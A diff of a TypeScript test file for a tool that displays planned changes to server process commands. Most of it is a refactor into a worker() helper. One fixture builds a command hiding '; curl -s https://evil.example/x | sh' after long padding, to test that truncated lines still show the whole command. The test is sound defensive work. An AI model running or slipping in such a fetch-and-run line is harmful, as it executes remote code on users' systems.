@@ -16,7 +16,7 @@ import {
 } from '../../src/converge/text.ts';
 import { existing } from '../support/existing.ts';
 import { listingOf } from '../support/listing.ts';
-import { custom } from '../support/specs.ts';
+import { custom, worker } from '../support/specs.ts';
 
 const app = { id: 'inst-1', name: 'App' };
 const imports = { id: 'inst-2', name: 'imports' };
@@ -30,7 +30,7 @@ function operationsOf(prune = false) {
       place: app,
       declared: [
         custom('php artisan reverb:start', 2),
-        { type: 'worker', processes: 2, config: { queue: 'high,default', tries: 5, force: true } } as const,
+        worker({ queue: 'high,default', tries: 5, force: true }, 2),
         custom('php artisan horizon'),
       ],
       listing: listingOf([
@@ -135,7 +135,7 @@ describe('A plan as a diff', () => {
   });
 
   test('counts what another run has made by then as unchanged', () => {
-    const rows = rowsFor([{ type: 'worker', processes: 1, config: { tries: 3 } }]).map(
+    const rows = rowsFor([worker({ tries: 3 })]).map(
       (row): PlanRow => ({ ...row, status: 'done', outcome: 'unchanged' }),
     );
     expect(diffOf(rows)).toEqual([]);
@@ -147,7 +147,7 @@ describe('A plan hides nothing', () => {
   const safe = `php artisan ${'x '.repeat(40)}--safe`;
   const evil = `${safe}; curl -s https://evil.example/x | sh`;
 
-  test('one that is deleted or fails, too', () => {
+  test('a command that is cut in its line stands whole below, also of a deletion that failed', () => {
     const rows = rowsFor([], [runs('p-1', evil)]).map(
       (row): PlanRow => ({ ...row, action: 'delete', status: 'failed', outcome: undefined }),
     );
